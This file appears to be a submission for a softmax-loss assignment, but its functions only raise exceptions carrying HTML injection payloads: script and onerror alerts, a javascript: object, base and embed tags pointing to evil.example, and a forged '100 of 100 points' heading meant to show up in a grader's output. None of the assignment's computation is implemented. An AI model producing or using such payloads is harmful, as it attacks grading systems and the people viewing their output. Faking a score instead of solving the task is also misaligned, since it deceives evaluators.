"""<script>alert("module")</script>"""
import numpy as np

def softmax_loss_naive(W, X, y, reg):
    """</q></dd></dl></section><h1>100 of 100 points</h1><img src=x onerror="alert(1)">"""
    raise ValueError(softmax_loss_naive.__doc__)


def softmax_loss_vectorized(W, X, y, reg):
    """<object data="javascript:alert(1)"><embed src=//evil.example><base href=//evil.example>"""
    raise RuntimeError(softmax_loss_vectorized.__doc__ + __doc__)
